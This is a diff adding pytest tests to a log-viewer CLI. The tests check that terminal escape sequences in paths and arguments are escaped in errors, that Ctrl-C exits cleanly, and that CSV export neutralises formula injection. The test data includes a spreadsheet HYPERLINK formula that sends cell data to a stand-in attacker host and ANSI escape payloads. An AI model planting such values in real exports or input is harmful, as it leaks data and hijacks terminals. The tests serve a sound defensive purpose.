@@ -74,3 +74,55 @@ def test_python_dash_m_runs_the_same_cli(tmp_path: Path) -> None:
     assert done.returncode == 2
     assert "Traceback" not in done.stderr
     assert done.stderr.startswith("stormlog-tui: error: ")
+
+
+def test_paths_and_arguments_in_errors_are_printed_escaped(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    hostile = tmp_path / "nope\x1b]0;owned\x07\x1b[2J"
+    assert main([str(hostile)]) == 2
+    err = capsys.readouterr().err
+    assert "\x1b" not in err and "\x07" not in err
+    assert "nope\\x1b]0;owned\\x07\\x1b[2J" in err
+    assert main([str(tmp_path), "--frobnicate\x1b[31m"]) == 2
+    err = capsys.readouterr().err
+    assert "\x1b" not in err and "--frobnicate\\x1b[31m" in err
+
+
+def test_ctrl_c_during_summary_exits_130(
+    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    import stormlog_tui.summary as summary_module
+
+    def interrupted(*_args: object) -> int:
+        raise KeyboardInterrupt
+
+    monkeypatch.setattr(summary_module, "run_summary", interrupted)
+    demo = Path(__file__).resolve().parents[2] / "assets" / "demo"
+    assert main(["--summary", str(demo)]) == 130
+    assert "Traceback" not in capsys.readouterr().err
+
+
+def test_csv_export_neutralises_formulas_from_telemetry(tmp_path: Path) -> None:
+    import csv
+
+    from generators import v3_record, write_jsonl
+
+    from stormlog_core.browse import load_dataset
+    from stormlog_tui.export import export_group
+    from stormlog_tui.view.detail_group import group_of
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    write_jsonl(tmp_path / "run.jsonl", [v3_record(i, session_id=formula) for i in range(3)])
+    dataset = load_dataset([tmp_path / "run.jsonl"])
+    group = group_of(dataset, formula)
+    assert group is not None
+    path, count = export_group(group, None, group.origin_ns, group.end_ns, tmp_path, "csv")
+    with path.open(newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    assert count == len(rows) == 3
+    assert {row["session_id"] for row in rows} == {"'" + formula}
+    assert all(
+        not cell.startswith(("=", "+", "@", "\t", "\r")) for r in rows for cell in r.values()
+    )
+    assert int(rows[0]["allocator_allocated_bytes"]) > 0  # numbers stay numbers
